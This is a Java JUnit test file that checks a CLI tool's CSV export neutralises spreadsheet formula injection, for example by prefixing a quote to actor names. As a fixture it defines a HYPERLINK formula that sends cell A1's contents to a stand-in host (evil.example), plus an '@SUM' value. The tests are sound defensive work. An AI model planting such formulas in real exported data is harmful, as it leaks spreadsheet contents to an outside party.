package org.annals.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.annals.store.StoredActor;
import org.junit.jupiter.api.Test;

class OutputTest {
  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click, here\")";

  @Test
  void actorsCsvNeutralisesAFormulaInAnActorsName() throws Exception {
    StoredActor a =
        new StoredActor(
            "p:evil",
            FORMULA,
            "person",
            null,
            List.of("GOV"),
            List.of(FORMULA, "@SUM(1+1)"),
            List.of(),
            3,
            false,
            List.of());
    List<List<String>> rows = csv(List.of(ActorsCommand.record(a)));
    List<String> header = rows.get(0);
    List<String> actor = rows.get(1);
    assertThat(actor.get(header.indexOf("name"))).isEqualTo("'" + FORMULA);
    assertThat(actor.get(header.indexOf("id"))).isEqualTo("p:evil");
    assertThat(actor.get(header.indexOf("mentions"))).isEqualTo("3");
    assertThat(actor.get(header.indexOf("country"))).isEmpty();
    // lists are one JSON cell; it starts with '[', so it is no formula
    assertThat(actor.get(header.indexOf("aliases")))
        .isEqualTo(Output.json(List.of(FORMULA, "@SUM(1+1)")));
  }

  @Test
  void csvLeavesNegativeNumbersAndPlainTextAsTheyAre() throws Exception {
    List<List<String>> rows =
        csv(List.of(Map.of("goldstein", -10.0, "name", "Ama, \"the\" envoy")));
    assertThat(rows.get(1)).containsExactlyInAnyOrder("-10.0", "Ama, \"the\" envoy");
  }

  @Test
  void csvLeavesTheStandardOutputOpen() {
    StringWriter s = new StringWriter();
    PrintWriter out = new PrintWriter(s);
    Output.write(out, Output.Format.csv, List.of(Map.of("id", "a")), List.of("id"));
    out.println("after");
    out.flush();
    assertThat(out.checkError()).isFalse();
    assertThat(s.toString()).isEqualTo("id\na\nafter\n");
  }

  private static List<List<String>> csv(List<Map<String, Object>> rows) throws Exception {
    StringWriter s = new StringWriter();
    Output.write(new PrintWriter(s), Output.Format.csv, rows, List.of());
    List<List<String>> out = new ArrayList<>();
    try (MappingIterator<List<String>> it =
        new CsvMapper()
            .enable(CsvParser.Feature.WRAP_AS_ARRAY)
            .readerForListOf(String.class)
            .readValues(s.toString())) {
      it.forEachRemaining(out::add);
    }
    return out;
  }
}
